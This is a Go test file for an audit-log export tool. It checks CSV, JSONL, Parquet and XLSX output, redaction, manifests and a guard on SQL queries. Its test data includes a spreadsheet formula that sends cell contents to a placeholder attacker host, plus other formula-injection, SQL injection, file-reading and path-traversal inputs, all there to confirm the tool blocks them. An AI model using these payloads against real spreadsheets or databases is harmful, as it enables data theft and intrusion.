package export

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/auditlens/auditlens/store"
	"github.com/auditlens/auditlens/store/export/sqllex"
)

func run(t *testing.T, st *store.Store, req Request) Manifest {
	t.Helper()
	m, err := Export(context.Background(), st, req, nil)
	if err != nil {
		t.Fatalf("export %s: %v", req.Format, err)
	}
	return m
}

func TestRoundTrip(t *testing.T) {
	p := caseFile(t)
	st := openStore(t, p, true)
	dir := t.TempDir()
	cols, want := expected(t, st, store.Filter{})
	if len(want) != len(hostile)+1 {
		t.Fatalf("fixture: %d rows", len(want))
	}

	t.Run("csv", func(t *testing.T) {
		out := filepath.Join(dir, "x.csv")
		m := run(t, st, Request{Filter: &store.Filter{}, Format: CSV, Out: out, Redact: RedactNone, NoNeutralize: true, BOM: true})
		b, err := os.ReadFile(out)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.HasPrefix(b, []byte("\uFEFF")) || !bytes.HasSuffix(b, []byte("\r\n")) {
			t.Fatal("missing BOM or CRLF record end")
		}
		r := csv.NewReader(bytes.NewReader(b[3:]))
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if !slices.Equal(recs[0], viewColumns) {
			t.Fatalf("header %v", recs[0])
		}
		for i, row := range want {
			for j, v := range row {
				// encoding/csv's reader turns CRLF inside a quoted field into LF.
				w := strings.ReplaceAll(textOf(v, cols[j].Type), "\r\n", "\n")
				if got := recs[i+1][j]; got != w {
					t.Fatalf("row %d %s: got %.80q want %.80q", i, cols[j].Name, got, w)
				}
			}
		}
		if m.Rows != int64(len(want)) || m.Alterations.NeutralizedCells != 0 {
			t.Fatalf("manifest %+v", m)
		}
	})

	t.Run("jsonl", func(t *testing.T) {
		out := filepath.Join(dir, "x.jsonl")
		run(t, st, Request{Filter: &store.Filter{}, Format: JSONL, Out: out})
		f, err := os.Open(out)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		sc := bufio.NewScanner(f)
		sc.Buffer(nil, 8<<20)
		i := 0
		for sc.Scan() {
			dec := json.NewDecoder(bytes.NewReader(sc.Bytes()))
			dec.UseNumber()
			var obj map[string]any
			if err := dec.Decode(&obj); err != nil {
				t.Fatalf("line %d: %v", i+1, err)
			}
			for j, v := range want[i] {
				got := obj[cols[j].Name]
				switch x := v.(type) {
				case nil:
					if got != nil {
						t.Fatalf("row %d %s: got %v want null", i, cols[j].Name, got)
					}
				case []any:
					if !reflect.DeepEqual(got, x) {
						t.Fatalf("row %d %s: got %v want %v", i, cols[j].Name, got, x)
					}
				default:
					gs, ok := got.(string)
					if n, isNum := got.(json.Number); isNum {
						gs, ok = n.String(), true
					}
					if !ok || gs != textOf(v, cols[j].Type) {
						t.Fatalf("row %d %s: got %v want %v", i, cols[j].Name, got, v)
					}
				}
			}
			i++
		}
		if err := sc.Err(); err != nil || i != len(want) {
			t.Fatalf("%d lines, %v", i, err)
		}
	})

	t.Run("parquet", func(t *testing.T) {
		out := filepath.Join(dir, "x.parquet")
		run(t, st, Request{Filter: &store.Filter{}, Format: Parquet, Out: out})
		gotCols, got := readParquet(t, out, false)
		if !slices.Equal(gotCols, viewColumns) {
			t.Fatalf("columns %v", gotCols)
		}
		assertSameRows(t, got, want)
	})

	t.Run("xlsx", func(t *testing.T) {
		out := filepath.Join(dir, "x.xlsx")
		m := run(t, st, Request{Filter: &store.Filter{}, Format: XLSX, Out: out, Redact: RedactNone, NoNeutralize: true})
		f, err := excelize.OpenFile(out)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		rows, err := f.GetRows("export", excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		if !slices.Equal(rows[0], viewColumns) || len(rows) != len(want)+1 {
			t.Fatalf("header %v, %d rows", rows[0], len(rows))
		}
		for i, row := range want {
			for j, v := range row {
				w, _ := xmlSafe(textOf(v, cols[j].Type))
				w, _ = cutForExcel(w)
				got := ""
				if j < len(rows[i+1]) {
					got = rows[i+1][j]
				}
				if got != w {
					t.Fatalf("row %d %s: got %.80q want %.80q", i, cols[j].Name, got, w)
				}
			}
		}
		if m.Alterations.CutCells != 1 || m.Alterations.ReplacedCharacterCells == 0 {
			t.Fatalf("alterations %+v", m.Alterations)
		}
		panes, err := f.GetPanes("export")
		if err != nil || !panes.Freeze || panes.YSplit != 1 {
			t.Fatalf("panes %+v %v", panes, err)
		}
		names := f.GetDefinedName()
		if len(names) == 0 || !strings.Contains(names[0].RefersTo, "$A$1:$Y$") {
			t.Fatalf("no autofilter: %+v", names)
		}
		for _, r := range rows[1:] {
			if c := r[13]; utf8.RuneCountInString(c) > xlsxMaxChars {
				t.Fatalf("cell of %d characters", utf8.RuneCountInString(c))
			} else if strings.HasPrefix(c, "xxxx") && !strings.Contains(c, "cut by auditlens: 1048581 characters") {
				t.Fatalf("cut cell without marker: ...%s", c[len(c)-60:])
			}
		}
	})
}

// assertSameRows compares driver values, times by instant.
func assertSameRows(t *testing.T, got, want [][]any) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("%d rows, want %d", len(got), len(want))
	}
	for i := range want {
		for j := range want[i] {
			g, w := got[i][j], want[i][j]
			if gt, ok := g.(time.Time); ok {
				if wt, ok := w.(time.Time); !ok || !gt.Equal(wt) {
					t.Fatalf("row %d col %d: %v want %v", i, j, g, w)
				}
				continue
			}
			if !reflect.DeepEqual(g, w) {
				t.Fatalf("row %d col %d: %.80v want %.80v", i, j, g, w)
			}
		}
	}
}

func TestNeutralization(t *testing.T) {
	st := openStore(t, caseFile(t), true)
	dir := t.TempDir()
	dangerous := func(s string) bool { return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) }
	for _, format := range []Format{CSV, XLSX} {
		out := filepath.Join(dir, "n."+string(format))
		m := run(t, st, Request{Filter: &store.Filter{}, Format: format, Out: out})
		if !m.FormulaNeutralization || m.Alterations.NeutralizedCells == 0 {
			t.Fatalf("%s: manifest %+v", format, m.Alterations)
		}
		var recs [][]string
		if format == CSV {
			b, _ := os.ReadFile(out)
			var err error
			if recs, err = csv.NewReader(bytes.NewReader(b)).ReadAll(); err != nil {
				t.Fatal(err)
			}
		} else {
			f, err := excelize.OpenFile(out)
			if err != nil {
				t.Fatal(err)
			}
			recs, _ = f.GetRows("export", excelize.Options{RawCellValue: true})
			f.Close()
		}
		seen := map[string]bool{}
		for _, r := range recs[1:] {
			for j, c := range r {
				if j == 15 { // row_count: a number, never a formula
					continue
				}
				if dangerous(c) {
					t.Fatalf("%s: cell %q of column %s not neutralised", format, c, viewColumns[j])
				}
				seen[c] = true
			}
			if format == CSV && r[15] == "-2" {
				seen["number -2 kept"] = true
			}
		}
		for _, w := range []string{`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "'+1", "'-2", "'@SUM(A1:A9)", "'\tTAB start", "'=2+5", "'-ERR"} {
			if !seen[w] {
				t.Errorf("%s: no cell %q", format, w)
			}
		}
		if format == CSV && !seen["number -2 kept"] {
			t.Errorf("csv: numeric -2 was changed")
		}
	}
	// Off on request, and never for JSONL.
	out := filepath.Join(dir, "raw.csv")
	m := run(t, st, Request{Filter: &store.Filter{}, Format: CSV, Out: out, NoNeutralize: true})
	b, _ := os.ReadFile(out)
	if m.FormulaNeutralization || !bytes.Contains(b, []byte("\n+1,")) && !bytes.Contains(b, []byte(",+1,")) {
		t.Fatal("--no-neutralize still changed cells")
	}
	m = run(t, st, Request{Filter: &store.Filter{}, Format: JSONL, Out: filepath.Join(dir, "x.jsonl")})
	if m.FormulaNeutralization {
		t.Fatal("jsonl neutralised")
	}
}

func TestRedaction(t *testing.T) {
	st := openStore(t, caseFile(t), true)
	dir := t.TempDir()
	check := func(name string, b []byte, paramsGone, literalsGone bool) {
		t.Helper()
		if got := bytes.Contains(b, []byte("=1+1")); got == paramsGone {
			t.Errorf("%s: params present = %v", name, got)
		}
		if got := bytes.Contains(b, []byte(secretLiteral)) || bytes.Contains(b, []byte(secretNumber)); got == literalsGone {
			t.Errorf("%s: literals present = %v", name, got)
		}
	}
	for _, c := range []struct {
		format                   Format
		redact                   Redaction
		paramsGone, literalsGone bool
	}{
		{CSV, RedactDefault, true, false},
		{XLSX, RedactDefault, true, false},
		{JSONL, RedactDefault, false, false},
		{Parquet, RedactDefault, false, false},
		{CSV, RedactLiterals, true, true},
		{JSONL, RedactLiterals, true, true},
		{Parquet, RedactLiterals, true, true},
		{Parquet, RedactParams, true, false},
		{CSV, RedactNone, false, false},
	} {
		name := string(c.format) + "-" + string(c.redact)
		out := filepath.Join(dir, name+"."+string(c.format))
		m := run(t, st, Request{Filter: &store.Filter{}, Format: c.format, Out: out, Redact: c.redact, NoNeutralize: true})
		if c.redact == RedactDefault && m.Redaction == RedactDefault {
			t.Fatalf("%s: manifest does not name the default", name)
		}
		var b []byte
		switch c.format {
		case Parquet:
			_, rows := readParquet(t, out, false)
			var sb strings.Builder
			for _, r := range rows {
				sb.WriteString(textOf(r[13], "") + textOf(r[14], ""))
			}
			b = []byte(sb.String())
		case XLSX:
			f, err := excelize.OpenFile(out)
			if err != nil {
				t.Fatal(err)
			}
			rows, _ := f.GetRows("export")
			f.Close()
			for _, r := range rows {
				b = append(b, strings.Join(r, "|")...)
			}
		default:
			b, _ = os.ReadFile(out)
		}
		check(name, b, c.paramsGone, c.literalsGone)
		if c.redact == RedactLiterals && !bytes.Contains(b, []byte("WHERE ssn = '?' AND id = ?")) {
			t.Errorf("%s: redacted statement not found", name)
		}
	}
}

func TestManifestAndVerify(t *testing.T) {
	st := openStore(t, caseFile(t), true)
	dir := t.TempDir()
	out := filepath.Join(dir, "evidence.csv")
	f := store.Filter{Clusters: []string{"orders-prod"}}
	m := run(t, st, Request{Filter: &f, FilterText: "cluster:orders-prod", Format: CSV, Out: out})
	if m.Rows != 8 || !slices.Equal(m.Clusters, []string{"orders-prod"}) || m.TimeRange == nil ||
		!m.TimeRange.First.Equal(t0) || !m.TimeRange.Last.Equal(t0.Add(14*25*time.Hour)) {
		t.Fatalf("manifest %+v %+v", m, m.TimeRange)
	}
	if len(m.Sources) != 2 || m.Sources[0].Events+m.Sources[1].Events != 8 || m.Sources[0].ETag != "etag-0" ||
		m.Sources[1].VersionID != "v1" || m.Sources[0].SHA256 == "" || m.SourcesFrom != "filter" {
		t.Fatalf("sources %+v", m.Sources)
	}
	for _, p := range []string{out, out + ".manifest.json"} {
		if fi, err := os.Stat(p); err != nil || fi.Mode().Perm() != 0o600 {
			t.Fatalf("%s: %v %v", p, fi.Mode(), err)
		}
	}
	var disk Manifest
	b, _ := os.ReadFile(out + ".manifest.json")
	if err := json.Unmarshal(b, &disk); err != nil || disk.Query.FilterText != "cluster:orders-prod" || disk.Query.Filter == nil ||
		disk.Files[0].Path != "evidence.csv" || disk.Tool.Name != "auditlens" {
		t.Fatalf("manifest on disk: %v %s", err, b)
	}
	if res, err := VerifyExport(out); err != nil || !res.OK {
		t.Fatalf("verify fresh export: %v", err)
	}
	// One changed byte is a mismatch naming the file.
	data, _ := os.ReadFile(out)
	data[len(data)/2] ^= 1
	if err := os.WriteFile(out, data, 0o600); err != nil {
		t.Fatal(err)
	}
	res, err := VerifyExport(out + ".manifest.json")
	if !errors.Is(err, ErrMismatch) || res.OK || !strings.Contains(err.Error(), "evidence.csv (changed)") {
		t.Fatalf("changed byte: %v %+v", err, res)
	}
	os.Remove(out)
	if _, err := VerifyExport(out); !errors.Is(err, ErrMismatch) || !strings.Contains(err.Error(), "missing") {
		t.Fatalf("missing file: %v", err)
	}
	// A tampered manifest cannot send the check elsewhere.
	disk.Files[0].Path = "../../etc/passwd"
	b, _ = json.Marshal(disk)
	os.WriteFile(out+".manifest.json", b, 0o600)
	if _, err := VerifyExport(out); err == nil || errors.Is(err, ErrMismatch) {
		t.Fatalf("escaping path: %v", err)
	}
}

func TestPartitioned(t *testing.T) {
	st := openStore(t, caseFile(t), true)
	out := filepath.Join(t.TempDir(), "set")
	m := run(t, st, Request{Filter: &store.Filter{}, Format: Parquet, Out: out, PartitionBy: []string{"cluster", "date"}})
	if len(m.Files) < 4 {
		t.Fatalf("files %+v", m.Files)
	}
	for _, fe := range m.Files {
		if !strings.HasPrefix(fe.Path, "set/cluster=") || !strings.Contains(fe.Path, "/date=2026-") {
			t.Fatalf("not hive layout: %s", fe.Path)
		}
	}
	_, rows := readParquet(t, filepath.Join(out, "**", "*.parquet"), true)
	if int64(len(rows)) != m.Rows {
		t.Fatalf("read back %d rows, manifest %d", len(rows), m.Rows)
	}
	if _, err := VerifyExport(out); err != nil {
		t.Fatal(err)
	}
	extra := filepath.Join(out, "cluster=orders-prod", "extra.parquet")
	os.WriteFile(extra, []byte("x"), 0o600)
	if _, err := VerifyExport(out); !errors.Is(err, ErrMismatch) || !strings.Contains(err.Error(), "unexpected") {
		t.Fatalf("added file: %v", err)
	}
	os.Remove(extra)
	first := filepath.Join(filepath.Dir(out), filepath.FromSlash(m.Files[0].Path))
	data, _ := os.ReadFile(first)
	data[10] ^= 0x40
	os.WriteFile(first, data, 0o600)
	if _, err := VerifyExport(out); !errors.Is(err, ErrMismatch) || !strings.Contains(err.Error(), m.Files[0].Path) {
		t.Fatalf("changed partition file: %v", err)
	}
	if _, err := Export(context.Background(), st, Request{Filter: &store.Filter{}, Format: Parquet, Out: out, PartitionBy: []string{"cluster"}}, nil); !errors.Is(err, ErrUsage) {
		t.Fatalf("existing directory: %v", err)
	}
}

func TestSQLExport(t *testing.T) {
	st := openStore(t, caseFile(t), true)
	dir := t.TempDir()
	q := "SELECT event_id, cluster, log_time, statement, params, user_name, row_count::DECIMAL(10,2) AS rc, {'k': 1} AS s FROM audit_events WHERE cluster = 'billing-prod' ORDER BY event_id"
	for _, format := range []Format{Parquet, CSV, JSONL, XLSX} {
		out := filepath.Join(dir, "q."+string(format))
		m := run(t, st, Request{SQL: q, Format: format, Out: out, Redact: RedactLiterals})
		if m.Rows != int64(len(hostile)+1)/2 || m.SourcesFrom != "event_id" || len(m.Sources) != 2 || m.RowsWithoutSource != 0 ||
			!slices.Equal(m.Clusters, []string{"billing-prod"}) || m.TimeRange == nil || m.Query.SQL != q {
			t.Fatalf("%s manifest %+v", format, m)
		}
		b, _ := os.ReadFile(out)
		if format != Parquet && format != XLSX && (bytes.Contains(b, []byte(secretLiteral)) || bytes.Contains(b, []byte("=1+1"))) {
			t.Fatalf("%s: not redacted", format)
		}
	}
	_, rows := readParquet(t, filepath.Join(dir, "q.parquet"), false)
	for _, r := range rows {
		if s, _ := r[3].(string); strings.Contains(s, secretLiteral) || r[4] != nil {
			t.Fatalf("parquet not redacted: %v", r)
		}
	}
	m := run(t, st, Request{SQL: "SELECT 1 AS one, '=1' AS f", Format: CSV, Out: filepath.Join(dir, "plain.csv")})
	if m.Rows != 1 || len(m.Sources) != 0 || !strings.HasPrefix(m.SourcesFrom, "none") {
		t.Fatalf("no event_id: %+v", m)
	}
	for _, bad := range []string{
		"DELETE FROM events",
		"SELECT 1; DROP TABLE events",
		"COPY events TO '" + filepath.Join(dir, "leak.csv") + "'",
		"SELECT * FROM read_text('/etc/hostname')",
		"ATTACH '" + filepath.Join(dir, "x.db") + "' AS x",
	} {
		out := filepath.Join(dir, "bad.csv")
		if _, err := Export(context.Background(), st, Request{SQL: bad, Format: CSV, Out: out}, nil); err == nil {
			t.Fatalf("%q was run", bad)
		}
		assertOnly(t, dir, "q.parquet", "q.csv", "q.jsonl", "q.xlsx", "plain.csv")
	}
	// After the guard locked this session, a filter export to Parquet still works.
	out := filepath.Join(dir, "after-lock.parquet")
	m = run(t, st, Request{Filter: &store.Filter{}, Format: Parquet, Out: out})
	if _, rows := readParquet(t, out, false); int64(len(rows)) != m.Rows || m.Rows == 0 {
		t.Fatalf("parquet after lock: %d rows", len(rows))
	}
}

func TestFilterValuesAreBound(t *testing.T) {
	st := openStore(t, caseFile(t), true)
	out := filepath.Join(t.TempDir(), "inj.csv")
	f := store.Filter{Users: []string{"x' OR '1'='1"}, Text: "%' OR 1=1 --"}
	if m := run(t, st, Request{Filter: &f, Format: Parquet, Out: out}); m.Rows != 0 {
		t.Fatalf("injection selected %d rows", m.Rows)
	}
	f = store.Filter{Users: []string{"=2+5"}}
	if m := run(t, st, Request{Filter: &f, Format: CSV, Out: out}); m.Rows != 1 {
		t.Fatalf("user filter: %d rows", m.Rows)
	}
}

// assertOnly fails if dir holds files other than names (temp files included).
func assertOnly(t *testing.T, dir string, names ...string) {
	t.Helper()
	ents, _ := os.ReadDir(dir)
	for _, e := range ents {
		n := strings.TrimSuffix(e.Name(), ".manifest.json")
		if !slices.Contains(names, n) {
			t.Fatalf("unexpected file left in %s: %s", dir, e.Name())
		}
	}
}

func TestNoPartialFile(t *testing.T) {
	p := bulkCaseFile(t, 50_000)
	st := openStore(t, p, true)
	dir := t.TempDir()
	for _, format := range []Format{CSV, XLSX, JSONL, Parquet} {
		ctx, cancel := context.WithCancel(context.Background())
		out := filepath.Join(dir, "c."+string(format))
		_, err := Export(ctx, st, Request{Filter: &store.Filter{}, Format: format, Out: out}, func(done, total int64) {
			if done > 0 || format == Parquet {
				cancel()
			}
		})
		cancel()
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("%s: cancelled export returned %v", format, err)
		}
		assertOnly(t, dir)
	}
	ctx, cancel := context.WithCancel(context.Background())
	_, err := Export(ctx, st, Request{Filter: &store.Filter{}, Format: Parquet, Out: filepath.Join(dir, "set"), PartitionBy: []string{"date"}},
		func(int64, int64) { cancel() })
	if err == nil {
		t.Fatal("cancelled partitioned export succeeded")
	}
	assertOnly(t, dir)

	// A folder that cannot be written to (here: a file where the folder should be).
	blocker := filepath.Join(dir, "notadir")
	os.WriteFile(blocker, nil, 0o600)
	if _, err := Export(context.Background(), st, Request{Filter: &store.Filter{}, Format: CSV, Out: filepath.Join(blocker, "x.csv")}, nil); err == nil ||
		!strings.Contains(err.Error(), "x.csv") {
		t.Fatalf("unwritable folder: %v", err)
	}
	assertOnly(t, dir, "notadir")
	if _, err := Export(context.Background(), st, Request{Filter: &store.Filter{}, Format: CSV, Out: p}, nil); !errors.Is(err, ErrUsage) {
		t.Fatalf("overwriting the case file: %v", err)
	}
}

func TestProgress(t *testing.T) {
	st := openStore(t, bulkCaseFile(t, 20_000), true)
	var calls int
	var last, total int64
	_, err := Export(context.Background(), st, Request{Filter: &store.Filter{}, Format: CSV, Out: filepath.Join(t.TempDir(), "p.csv")},
		func(d, tot int64) { calls, last, total = calls+1, d, tot })
	if err != nil || calls < 3 || last != 20_000 || total != 20_000 {
		t.Fatalf("progress: %d calls, %d/%d, %v", calls, last, total, err)
	}
}

func TestRequestValidation(t *testing.T) {
	st := openStore(t, caseFile(t), true)
	out := filepath.Join(t.TempDir(), "v")
	f := &store.Filter{}
	for _, req := range []Request{
		{Format: CSV, Out: out},
		{Filter: f, SQL: "SELECT 1", Format: CSV, Out: out},
		{Filter: f, Format: "pdf", Out: out},
		{Filter: f, Format: CSV, Out: out, Redact: "all"},
		{Filter: f, Format: JSONL, Out: out, BOM: true},
		{Filter: f, Format: CSV, Out: out, PartitionBy: []string{"cluster"}},
		{Filter: f, Format: Parquet, Out: out, PartitionBy: []string{"user_name"}},
		{Filter: f, Format: CSV},
		{Filter: f, Format: CSV, Out: out + ".manifest.json"},
	} {
		if _, err := Export(context.Background(), st, req, nil); !errors.Is(err, ErrUsage) {
			t.Errorf("%+v: %v", req, err)
		}
	}
}

func TestRedactedStatementsUseLexer(t *testing.T) {
	for _, s := range hostile {
		if r := sqllex.RedactLiterals(s); strings.Contains(r, secretLiteral) {
			t.Fatalf("lexer left %q in %q", secretLiteral, r)
		}
	}
}
